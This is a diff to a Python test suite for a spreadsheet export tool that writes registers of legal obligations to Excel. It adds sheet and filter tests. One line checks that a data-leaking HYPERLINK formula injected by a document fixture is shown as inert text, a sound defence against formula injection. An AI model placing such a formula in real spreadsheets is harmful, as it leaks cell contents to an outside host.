@@ -5,7 +5,7 @@ from __future__ import annotations
 import re
 import shutil
 import subprocess
-from datetime import datetime
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -19,6 +19,8 @@ from dutybook.errors import BadRequest
 from dutybook.export import export, sheet
 from dutybook.export.text import clean, fit, units
 from dutybook.store import Register, open_register
+from dutybook.store.review_change import Change
+from dutybook.store.reviews import change
 
 
 def book(tmp_path: Path, register: Register, filters: dict[str, object] | None = None) -> Any:
@@ -33,8 +35,17 @@ def table(worksheet: Any) -> list[dict[str, Any]]:
 
 def test_sheets_headers_and_set_up(tmp_path: Path) -> None:
     workbook = book(tmp_path, mixed())
-    assert workbook.sheetnames == ["Obligations", "Deadlines", "Documents", "Rejected", "About", "_dutybook"]
-    frozen = {"Obligations": "C2", "Deadlines": "B2", "Documents": "B2", "Rejected": "A2"}
+    assert workbook.sheetnames == [
+        *("Obligations", "Deadlines", "Changes", "Documents", "Rejected", "Glossary", "About", "_dutybook")
+    ]
+    frozen = {
+        "Obligations": "C2",
+        "Deadlines": "B2",
+        "Changes": "C2",
+        "Documents": "B2",
+        "Rejected": "A2",
+        "Glossary": "B2",
+    }
     for name, at in frozen.items():
         worksheet = workbook[name]
         assert worksheet.freeze_panes == at
@@ -57,7 +68,7 @@ def test_dates_are_dates_and_days_left_is_our_formula(tmp_path: Path) -> None:
     assert {"F2:F6", "G2:G6"} <= {str(rule.sqref) for rule in worksheet.conditional_formatting}
 
 
-@pytest.mark.parametrize("name", ["Obligations", "Deadlines", "Documents", "Rejected", "About"])
+@pytest.mark.parametrize("name", ["Obligations", "Deadlines", "Changes", "Documents", "Rejected", "Glossary", "About"])
 def test_no_formula_comes_from_a_document(name: str, tmp_path: Path) -> None:
     worksheet = book(tmp_path, hostile())[name]
     cells = [cell for row in worksheet.iter_rows() for cell in row]
@@ -170,6 +181,31 @@ def test_another_program_opens_and_prints_it(tmp_path: Path) -> None:
         assert '=HYPERLINK("http://example.org/?leak="&A1,"open")' in text.replace("\r\n", "")
         # The other program computed our formula: a number of days stands beside the date.
         assert "#" not in text
-        assert len(pdf) < 8, "each sheet is as wide as its page"
+        assert len(pdf) <= 8, "each sheet is as wide as its page"
     finally:
         pdf.close()
+
+
+def test_what_people_rejected_is_listed_as_such(tmp_path: Path) -> None:
+    register = mixed()
+    norm = next(n for n in register.norms() if n.quote.endswith("1. Mai 2027."))
+    wanted = Change(finding="rejected", reason="a heading")
+    change(register, [norm.id], wanted, by="anna", now=datetime(2026, 11, 27, tzinfo=UTC))
+    workbook = book(tmp_path, register)
+    assert norm.quote not in [row["What the text says"] for row in table(workbook["Obligations"])]
+    row = table(workbook["Rejected"])[-1]
+    assert (row["What the text says"], row["Why it is none"], row["Decided by"]) == (
+        norm.quote,
+        "a heading",
+        "anna, 2026-11-27",
+    )
+    assert len(table(book(tmp_path, register, {"language": "en"})["Rejected"])) == 1
+    shown = table(book(tmp_path, register, {"review_state": "rejected"})["Obligations"])
+    assert [r["Finding"] for r in shown] == ["rejected"]
+
+
+def test_filters_are_said_in_the_words_of_the_reader(tmp_path: Path) -> None:
+    export(mixed(), tmp_path / "a.xlsx", {"modality": ("obligation", "prohibition"), "all_versions": True}, reader="de")
+    about = openpyxl.load_workbook(tmp_path / "a.xlsx")["Über"]
+    said = {row[0].value: row[1].value for row in about.iter_rows()}
+    assert said["Filter"] == "Art der Norm: Pflicht, Verbot\nAlle Fassungen: ja"
